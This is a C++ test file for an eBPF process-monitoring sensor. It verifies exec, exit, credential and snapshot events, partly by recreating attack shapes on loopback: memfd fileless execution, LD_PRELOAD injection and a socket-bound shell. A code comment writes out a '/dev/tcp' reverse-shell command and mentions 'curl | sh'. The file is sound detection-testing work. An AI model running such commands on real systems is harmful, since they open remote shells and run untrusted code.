// Root tests: the real BPF programs, real commands, exact event fields.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <openssl/evp.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <cstdio>
#include <filesystem>
#include <fstream>

#include "tests/root/sensor_harness.h"

namespace fs = std::filesystem;
using namespace yagura::test;

namespace {

std::string key_of(pid_t pid, const std::vector<Json>& events) {
  for (const auto& e : events)
    if (e["process"]["pid"] == pid) return e["process"]["key"];
  FAIL("no event for pid " << pid);
  return {};
}

std::string sha256_hex(const std::string& bytes) {
  unsigned char md[EVP_MAX_MD_SIZE];
  unsigned int len = 0;
  REQUIRE(EVP_Digest(bytes.data(), bytes.size(), md, &len, EVP_sha256(), nullptr) == 1);
  std::string hex;
  for (unsigned i = 0; i < len; ++i) {
    char b[3];
    std::snprintf(b, sizeof(b), "%02x", md[i]);
    hex += b;
  }
  return hex;
}

void write_file(const std::string& path, const std::string& text, mode_t mode) {
  std::ofstream(path) << text;
  REQUIRE(chmod(path.c_str(), mode) == 0);
}

uint64_t inode_of(int fd) {
  struct stat st {};
  REQUIRE(fstat(fd, &st) == 0);
  return st.st_ino;
}

// A TCP connection on loopback: the connecting end and the accepted one.
struct LoopbackConnection {
  int client = -1;
  int server = -1;

  LoopbackConnection() {
    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    REQUIRE(listener >= 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t len = sizeof(addr);
    REQUIRE(bind(listener, reinterpret_cast<sockaddr*>(&addr), len) == 0);
    REQUIRE(listen(listener, 1) == 0);
    REQUIRE(getsockname(listener, reinterpret_cast<sockaddr*>(&addr), &len) == 0);
    client = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    REQUIRE(client >= 0);
    REQUIRE(connect(client, reinterpret_cast<sockaddr*>(&addr), len) == 0);
    server = accept4(listener, nullptr, nullptr, SOCK_CLOEXEC);
    REQUIRE(server >= 0);
    close(listener);
  }
  ~LoopbackConnection() {
    close(client);
    close(server);
  }
};

// The exec event whose args are exactly `args`.
Json exec_with_args(const std::vector<Json>& events, const Json& args) {
  std::vector<Json> found;
  for (const auto& e : events)
    if (e["type"] == "exec" && e["process"]["args"] == args) found.push_back(e);
  INFO("exec events with args " << args.dump());
  REQUIRE(found.size() == 1);
  return found[0];
}

}  // namespace

TEST_CASE("exec through a symlink and a relative path names the real file", "[root][exec]") {
  TempDir dir;
  const std::string real = dir.path() + "/real-true";
  fs::copy_file("/bin/true", real);
  fs::create_symlink(real, dir.path() + "/link");
  struct stat st {};
  REQUIRE(stat(real.c_str(), &st) == 0);

  SensorProcess sensor;
  RunResult run = run_program({"./link", "alpha", "beta gamma"}, {.cwd = dir.path()});
  auto events = sensor.stop();

  Json e = find_one(events, "exec", run.pid);
  const Json& p = e["process"];
  CHECK(p["exe"] == real);
  CHECK(p["filename"] == "./link");
  CHECK(p["cwd"] == dir.path());
  CHECK(p["args"] == Json::array({"./link", "alpha", "beta gamma"}));
  CHECK(p["command_line"] == "./link alpha 'beta gamma'");
  CHECK(p["argc"] == 3);
  CHECK(p["args_truncated"] == false);
  CHECK(p["exe_file"]["ino"] == st.st_ino);
  CHECK(p["exe_file"]["mode"] == "0100755");
  CHECK(p["exe_file"]["deleted"] == false);
  std::ifstream image(real, std::ios::binary);
  CHECK(p["exe_file"]["sha256"] ==
        sha256_hex({std::istreambuf_iterator<char>(image), std::istreambuf_iterator<char>()}));
  CHECK(p["uid"] == 0);
  CHECK(p["user"] == "root");
  CHECK(!p.contains("script"));
  CHECK(e["parent"]["pid"] == getpid());
  CHECK(e["host"]["tags"]["team"] == "csirt");
  // The fork that made the process, and its exit, carry the same key.
  Json fork = find_one(events, "fork", run.pid);
  CHECK(fork["process"]["key"] == p["key"]);
  CHECK(fork["parent"]["pid"] == getpid());
  Json exit = find_one(events, "exit", run.pid);
  CHECK(exit["process"]["key"] == p["key"]);
  CHECK(exit["exit"]["code"] == 0);
  CHECK(exit["exit"]["signal"] == 0);
}

TEST_CASE("a script reports its path and its interpreter", "[root][exec]") {
  TempDir dir;
  write_file(dir.path() + "/job.sh", "#!/bin/sh\nexit 0\n", 0755);

  SensorProcess sensor;
  RunResult run = run_program({"./job.sh", "--flag"}, {.cwd = dir.path()});
  auto events = sensor.stop();

  Json p = find_one(events, "exec", run.pid)["process"];
  CHECK(p["exe"] == realpath_of("/bin/sh"));
  CHECK(p["filename"] == "./job.sh");
  CHECK(p["script"]["path"] == dir.path() + "/job.sh");
  CHECK(p["script"]["interpreter"] == "/bin/sh");
  // binfmt_script passes the interpreter, the script and then the arguments.
  CHECK(p["args"] == Json::array({"/bin/sh", "./job.sh", "--flag"}));
}

TEST_CASE("argv with 1000 arguments and non-UTF-8 bytes is captured whole", "[root][exec]") {
  std::vector<std::string> argv = {"/bin/true"};
  for (int i = 0; i < 1000; ++i) argv.push_back("arg" + std::to_string(i));
  const std::string raw = "\xff\xfe-latin1-\xe9";
  argv.push_back(raw);

  SensorProcess sensor;
  RunResult run = run_program(argv);
  auto events = sensor.stop();

  Json p = find_one(events, "exec", run.pid)["process"];
  CHECK(p["argc"] == 1002);
  CHECK(p["args_truncated"] == false);
  REQUIRE(p["args"].size() == 1002);
  CHECK(p["args"][1] == "arg0");
  CHECK(p["args"][1000] == "arg999");
  CHECK(p["args"][1001].get<std::string>() == raw);
}

TEST_CASE("argv over the configured limit is cut and says so", "[root][exec]") {
  std::vector<std::string> argv = {"/bin/true"};
  for (int i = 0; i < 1000; ++i) argv.push_back("arg" + std::to_string(i));
  size_t bytes = 0;
  for (const auto& a : argv) bytes += a.size() + 1;

  SensorProcess sensor({"--max-args-bytes", "64"});
  RunResult run = run_program(argv);
  auto events = sensor.stop();

  Json p = find_one(events, "exec", run.pid)["process"];
  CHECK(p["args_truncated"] == true);
  CHECK(p["argc"] == 1001);
  CHECK(p["args_bytes"] == bytes);
  CHECK(p["args"][0] == "/bin/true");
  CHECK(p["args"].size() < 1001);
}

TEST_CASE("exit reports the code, the terminating signal and a core dump", "[root][exit]") {
  SensorProcess sensor;
  RunResult code = run_program({"/bin/sh", "-c", "exit 7"});
  RunResult killed = run_program({"/bin/sh", "-c", "kill -KILL $$"});
  auto events = sensor.stop();

  REQUIRE(WEXITSTATUS(code.status) == 7);
  Json c = find_one(events, "exit", code.pid)["exit"];
  CHECK(c["code"] == 7);
  CHECK(c["signal"] == 0);
  CHECK(c["core_dumped"] == false);

  REQUIRE(WIFSIGNALED(killed.status));
  Json k = find_one(events, "exit", killed.pid)["exit"];
  CHECK(k["signal"] == 9);
  CHECK(k["signal_name"] == "SIGKILL");
  CHECK(k["code"] == 0);
}

TEST_CASE("a setuid change reports the old and new ids", "[root][cred]") {
  SensorProcess sensor;
  pid_t child = fork();
  REQUIRE(child >= 0);
  if (child == 0) _exit(setresuid(65534, 65534, 65534) == 0 ? 0 : 1);
  int status;
  REQUIRE(waitpid(child, &status, 0) == child);
  REQUIRE(WEXITSTATUS(status) == 0);
  auto events = sensor.stop();

  Json e = find_one(events, "cred", child);
  CHECK(e["cred"]["syscall"] == "setresuid");
  CHECK(e["cred"]["old"]["uid"] == 0);
  CHECK(e["cred"]["old"]["euid"] == 0);
  CHECK(e["cred"]["new"]["uid"] == 65534);
  CHECK(e["cred"]["new"]["euid"] == 65534);
  CHECK(e["cred"]["new"]["suid"] == 65534);
  CHECK(e["process"]["uid"] == 65534);
  CHECK(e["process"]["key"] == key_of(child, find_all(events, "fork", child)));
}

TEST_CASE("a process started before the sensor is known by its lineage", "[root][snapshot]") {
  int go[2];
  REQUIRE(pipe(go) == 0);
  const uint64_t go_ino = inode_of(go[0]);
  pid_t shell = fork();
  REQUIRE(shell >= 0);
  if (shell == 0) {
    dup2(go[0], STDIN_FILENO);
    close(go[1]);
    execl("/bin/sh", "/bin/sh", "-c", "read line; /bin/true started-later; exit 0", nullptr);
    _exit(127);
  }
  close(go[0]);

  SensorProcess sensor;
  REQUIRE(write(go[1], "go\n", 3) == 3);
  close(go[1]);
  int status;
  REQUIRE(waitpid(shell, &status, 0) == shell);
  auto events = sensor.stop();

  Json exec;
  for (const auto& e : events)
    if (e["type"] == "exec" && e["process"]["args"] == Json::array({"/bin/true", "started-later"}))
      exec = e;
  REQUIRE(exec.is_object());
  CHECK(exec["parent"]["pid"] == shell);
  CHECK(exec["parent"]["exe"] == realpath_of("/bin/sh"));
  CHECK(exec["parent"]["args"] ==
        Json::array({"/bin/sh", "-c", "read line; /bin/true started-later; exit 0"}));
  CHECK(exec["ancestors"][0]["pid"] == getpid());
  // The snapshot described the shell; its exit carries the same key.
  Json snap = find_one(events, "exec", shell);
  CHECK(snap["snapshot"] == true);
  CHECK(snap["process"]["exe"] == realpath_of("/bin/sh"));
  CHECK(snap["process"]["args"] == exec["parent"]["args"]);
  CHECK(snap["process"]["key"] == exec["parent"]["key"]);
  // Its descriptors as the snapshot found them: stdin is the pipe.
  CHECK(snap["process"]["stdio"]["stdin"] == Json({{"type", "pipe"}, {"ino", go_ino}}));
  CHECK(find_one(events, "exit", shell)["process"]["key"] == exec["parent"]["key"]);
}

TEST_CASE("an exec with LD_PRELOAD and LD_LIBRARY_PATH reports their values", "[root][exec]") {
  SensorProcess sensor;
  RunResult run = run_program({"/bin/true", "preloaded"},
                              {.env = {"PATH=/usr/bin:/bin", "LD_LIBRARY_PATH=/opt/evil/lib",
                                       "HOME=/root", "LD_PRELOAD=/nonexistent/hook.so"}});
  RunResult plain = run_program({"/bin/true", "plain"}, {.env = {"PATH=/usr/bin:/bin"}});
  auto events = sensor.stop();

  Json p = find_one(events, "exec", run.pid)["process"];
  CHECK(p["env"]["LD_PRELOAD"] == "/nonexistent/hook.so");
  CHECK(p["env"]["LD_LIBRARY_PATH"] == "/opt/evil/lib");
  CHECK(p["env_scan"] == "complete");
  Json q = find_one(events, "exec", plain.pid)["process"];
  CHECK(q["env"] == Json::object());
}

TEST_CASE("executables that are deleted, in a memfd or on tmpfs are flagged", "[root][exec]") {
  TempDir dir;
  const std::string copy = dir.path() + "/gone";
  fs::copy_file("/bin/true", copy);
  std::ifstream in("/bin/true", std::ios::binary);
  const std::string image((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());

  SensorProcess sensor;
  // fexecve of an unlinked file: the kernel runs a file with no links.
  int fd = open(copy.c_str(), O_RDONLY | O_CLOEXEC);
  REQUIRE(fd >= 0);
  REQUIRE(unlink(copy.c_str()) == 0);
  RunResult deleted = run_program({"gone"}, {.path = "/proc/self/fd/" + std::to_string(fd)});
  close(fd);
  // A memfd holding an ELF image: fileless execution.
  int mfd = memfd_create("payload", MFD_CLOEXEC);
  REQUIRE(mfd >= 0);
  REQUIRE(write(mfd, image.data(), image.size()) == static_cast<ssize_t>(image.size()));
  RunResult memfd = run_program({"payload"}, {.path = "/proc/self/fd/" + std::to_string(mfd)});
  close(mfd);
  auto events = sensor.stop();

  Json d = find_one(events, "exec", deleted.pid)["process"];
  CHECK(d["exe"] == copy);
  CHECK(d["exe_file"]["deleted"] == true);
  CHECK(d["exe_file"]["memfd"] == false);
  CHECK(d["exe_file"]["nlink"] == 0);
  Json m = find_one(events, "exec", memfd.pid)["process"];
  CHECK(m["exe"] == "/memfd:payload");
  CHECK(m["exe_file"]["memfd"] == true);
  CHECK(m["exe_file"]["tmpfs"] == true);
  CHECK(m["exe_file"]["deleted"] == true);
  // Both ran a copy of /bin/true. Each is hashed through /proc/<pid>/exe
  // while the process lives, or reports why not: never a wrong hash.
  const std::string expected = sha256_hex(image);
  for (const Json& p : {d, m}) {
    INFO(p["exe_file"].dump());
    if (p["exe_file"].contains("sha256"))
      CHECK(p["exe_file"]["sha256"] == expected);
    else
      CHECK(p["exe_file"]["hash_error"].get<std::string>() != "");
  }
}

TEST_CASE("an exec whose stdin and stdout are a socket reports them (a reverse shell's shape)",
          "[root][exec]") {
  LoopbackConnection conn;
  const uint64_t socket_ino = inode_of(conn.client);
  SensorProcess sensor;
  // `bash -i >& /dev/tcp/h/p 0>&1`: the forked child puts the connection on
  // its standard descriptors, then execs.
  pid_t child = fork();
  REQUIRE(child >= 0);
  if (child == 0) {
    int devnull = open("/dev/null", O_WRONLY);
    if (dup2(conn.client, STDIN_FILENO) < 0 || dup2(conn.client, STDOUT_FILENO) < 0 ||
        dup2(devnull, STDERR_FILENO) < 0)
      _exit(126);
    execl("/bin/true", "/bin/true", "reverse", nullptr);
    _exit(127);
  }
  int status;
  REQUIRE(waitpid(child, &status, 0) == child);
  REQUIRE(WEXITSTATUS(status) == 0);
  auto events = sensor.stop();

  Json stdio = find_one(events, "exec", child)["process"]["stdio"];
  INFO(stdio.dump());
  CHECK(stdio["stdin"] == Json({{"type", "socket"}, {"ino", socket_ino}}));
  CHECK(stdio["stdout"] == Json({{"type", "socket"}, {"ino", socket_ino}}));
  CHECK(stdio["stderr"]["type"] == "char");
  struct stat null_st {};
  REQUIRE(stat("/dev/null", &null_st) == 0);
  CHECK(stdio["stderr"]["ino"] == null_st.st_ino);
}

TEST_CASE("the two ends of a pipeline share the pipe's inode, and closed descriptors are none",
          "[root][exec]") {
  SensorProcess sensor;
  // `curl URL | sh`'s shape. stderr closed for both: "none", inode 0.
  RunResult run = run_program({"/bin/sh", "-c", "/bin/echo yg-pipe 2>&- | /bin/cat -u - 2>&-"});
  REQUIRE(exit_code(run) == 0);
  auto events = sensor.stop();

  Json echo = exec_with_args(events, Json::array({"/bin/echo", "yg-pipe"}))["process"]["stdio"];
  Json cat = exec_with_args(events, Json::array({"/bin/cat", "-u", "-"}))["process"]["stdio"];
  INFO(echo.dump() << "\n" << cat.dump());
  CHECK(echo["stdout"]["type"] == "pipe");
  CHECK(cat["stdin"]["type"] == "pipe");
  CHECK(echo["stdout"]["ino"].get<uint64_t>() != 0);
  CHECK(echo["stdout"]["ino"] == cat["stdin"]["ino"]);
  // run_program gives the shell /dev/null on stdin and stdout.
  CHECK(echo["stdin"]["type"] == "char");
  CHECK(cat["stdout"]["type"] == "char");
  CHECK(echo["stderr"] == Json({{"type", "none"}, {"ino", 0}}));
  CHECK(cat["stderr"] == Json({{"type", "none"}, {"ino", 0}}));
}
